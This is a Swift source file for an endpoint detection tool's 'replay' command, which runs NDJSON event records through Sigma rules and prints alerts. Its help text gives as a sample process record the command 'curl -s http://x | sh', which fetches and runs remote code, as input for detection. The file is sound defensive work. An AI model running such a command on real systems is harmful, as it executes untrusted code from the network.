import ArgumentParser
import EDRCore
import EDRDetect
import EDRSigma
import Foundation

/// `edr replay --rules DIR … [--match-mode all|best] [--format ecs|text] FILE|-`: runs NDJSON
/// records through the Sigma engine and writes alerts with the agent's own alert writer.
struct ReplayCommand: ParsableCommand {
    static let configuration = CommandConfiguration(
        commandName: "replay",
        abstract: "Run NDJSON event records through Sigma rules and print alerts (ECS NDJSON or text).",
        discussion: """
            Each input line is one record, either the agent's own shape:
              {"@timestamp":"2025-01-02T03:04:05Z","logsource":{"product":"linux","category":"process_creation"},
               "event":{"Image":"/usr/bin/curl","CommandLine":"curl -s http://x | sh"}}
            `service` may stand beside or instead of `category`; event values are strings, numbers,
            booleans, null or arrays (nested objects are flattened to dotted names). A malformed line is
            reported on standard error with its line number and skipped; the exit status is then 1.
            A linux process_creation record also gives the auditd records (EXECVE, SYSCALL, PATH, CWD,
            PROCTITLE) the agent builds from each exec, for `service: auditd` rules.
            Or a Windows event log record as exporters write it (docs/windows.md):
              {"System":{"Provider":{"Name":"Microsoft-Windows-Sysmon"},"EventID":1,
               "Channel":"Microsoft-Windows-Sysmon/Operational"},"EventData":{"Image":"C:\\\\x.exe"}}
            also wrapped in {"Event":{…}}; Sysmon, Security 4688 and PowerShell 4104 get SigmaHQ's
            categories, every channel its `service`.
            """)

    enum MatchMode: String, ExpressibleByArgument, CaseIterable { case all, best }
    enum Format: String, ExpressibleByArgument, CaseIterable { case ecs, text }

    @Option(name: .long, help: "A rule file or directory (searched recursively for .yml/.yaml); repeatable.")
    var rules: [String] = []

    @Option(name: .long, help: "all: one alert per matching rule; best: the highest-level match per record.")
    var matchMode: MatchMode = .all

    @Option(name: .long, help: "ecs: ECS NDJSON alerts; text: one readable line per alert.")
    var format: Format = .ecs

    @Argument(help: "NDJSON input file, or - for standard input.")
    var input: String

    func validate() throws {
        if rules.isEmpty { throw ValidationError("give at least one --rules DIR") }
    }

    func run() throws {
        let engine: SigmaEngine
        do { engine = try SigmaEngine.load(paths: rules) } catch {
            throw ValidationError("cannot read rules: \(error.localizedDescription)")
        }
        for d in engine.diagnostics {
            if case .rejected(let r) = d.status {
                FileHandle.standardError.write(Data("warning: rule \(d.path)\(d.ruleID.map { " [\($0)]" } ?? "") rejected: \(r)\n".utf8))
            }
        }
        let handle: FileHandle
        if input == "-" {
            handle = .standardInput
        } else {
            guard let h = FileHandle(forReadingAtPath: input) else { throw ValidationError("cannot open \(input)") }
            handle = h
        }
        let context = AlertContext.local()
        // SigmaHQ's auditd rules read records the live detector builds from each exec
        // (AuditdRecords); replay builds them from each process_creation record the same way,
        // and only when a loaded rule reads them, as the detector does.
        let auditd = AuditdRecords.Wanted(engine: engine)
        var out = Data()
        var malformed = 0
        var lineNo: UInt64 = 0
        var pending = Data()
        func flush() {
            if !out.isEmpty { FileHandle.standardOutput.write(out); out.removeAll(keepingCapacity: true) }
        }
        func handleLine(_ line: Data) {
            lineNo += 1
            if line.allSatisfy({ $0 == 0x20 || $0 == 0x09 || $0 == 0x0D }) { return }
            var events: [Event]
            do { events = try ReplayRecord.parse(Array(line)) } catch {
                malformed += 1
                FileHandle.standardError.write(Data("line \(lineNo): \(error)\n".utf8))
                return
            }
            if auditd.any { events += events.flatMap { AuditdRecords.exec(event: $0, wanted: auditd) } }
            var matches: [(event: Event, match: SigmaMatch)] = events.flatMap { e in engine.evaluate(e).map { (e, $0) } }
            if matchMode == .best, let top = matches.max(by: { $0.match.rule.level < $1.match.rule.level }) {
                matches = [matches.first { $0.match.rule.level == top.match.rule.level }!]
            }
            for (event, m) in matches {
                switch format {
                case .ecs: out.append(contentsOf: AlertEncoder.sigma(event: event, rule: m.rule, sequence: lineNo, context: context))
                case .text: out.append(contentsOf: Array((AlertEncoder.readable(event: event, rule: m.rule) + "\n").utf8))
                }
            }
            if out.count > 1 << 16 { flush() }
        }
        while true {
            let chunk = handle.readData(ofLength: 1 << 16)
            if chunk.isEmpty { break }
            pending.append(chunk)
            var start = pending.startIndex
            while let nl = pending[start...].firstIndex(of: 0x0A) {
                handleLine(pending[start..<nl])
                start = pending.index(after: nl)
            }
            pending = Data(pending[start...])
        }
        if !pending.isEmpty { handleLine(pending) }
        flush()
        if malformed > 0 { throw ExitCode(1) }
    }
}
